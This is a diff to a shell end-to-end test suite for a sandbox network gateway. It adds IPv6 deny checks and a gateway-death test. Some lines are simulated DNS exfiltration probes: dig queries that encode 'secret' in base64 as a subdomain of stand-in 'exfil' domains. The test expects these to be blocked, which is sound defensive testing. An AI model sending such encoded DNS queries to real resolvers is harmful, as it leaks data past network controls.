@@ -43,6 +43,8 @@ expect "a name no rule allows does not even resolve" "Could not resolve host" \
     run sh -c 'curl -sS --max-time 5 https://other.test/; exit 0'
 expect "a host no rule allows, reached by its address: 403" "403" \
     curl_in -o /dev/null -w '%{http_code}' --resolve "other.test:443:$INET4" https://other.test/
+expect "... and over IPv6: 403" "403" \
+    curl_in -6 -o /dev/null -w '%{http_code}' --resolve "other.test:443:[$INET6]" https://other.test/
 before=$(grep -c '"event": "accept"' "$E2E_TMP/upstream.log")
 refute "direct HTTPS to the upstream's IP (--noproxy) fails" \
     curl_in --noproxy '*' -o /dev/null "https://$INET4/echo"
@@ -60,6 +62,8 @@ expect "DNS for a name no rule allows: NXDOMAIN" "status: NXDOMAIN" \
 expect "... also asked of another resolver (redirected to the gateway)" "status: NXDOMAIN" \
     run dig +time=2 +tries=1 @$INET4 c2VjcmV0.exfil.test
 check "... which never reached dnsmasq" bash -c "! grep -q exfil $E2E_TMP/dnsmasq.log"
+expect "... and asked over IPv6 (the sandbox's second nameserver)" "status: NXDOMAIN" \
+    run sh -c 'dig +time=2 +tries=1 @$(awk "/^nameserver .*:/{print \$2}" /etc/resolv.conf) c2VjcmV0.exfil6.test'
 expect "DNS for the allowed name answers, AAAA too" "$INET6" run dig +short AAAA api.test
 check "the audit file has the allowed request, the denial and the dropped flows" bash -c "
     grep -q '\"event\":\"http\".*\"decision\":\"allow\".*\"host\":\"api.test\"' $RUN_AUDIT &&
@@ -122,6 +126,17 @@ wait "$runpid"
 rc=$?
 check "SIGTERM to botbox run ends CMD (143)" test "$rc" -eq 143
 check "... its background jobs too" test -z "$(pgrep -f 'sleep 30')"
+check "... and nothing is left" test -z "$(run_leftovers)"
+
+bg host gwdeath "${RUN[@]}" sh -c 'echo started; exec sleep 32'
+runpid=$BG_PID
+wait_for 10 grep -q started "$E2E_TMP/gwdeath.out"
+kill -9 "$(pgrep -P "$runpid" -x botbox)"
+wait "$runpid"
+rc=$?
+check "the gateway killed under CMD: CMD is stopped, botbox run exits 125 and says why" \
+    bash -c "test $rc -eq 125 && grep -q 'the gateway stopped' $E2E_TMP/gwdeath.out &&
+             ! pgrep -fx 'sleep 32' >/dev/null"
 check "... and nothing is left" test -z "$(run_leftovers)"
 
 # ---- a policy edited during the run applies to it ----
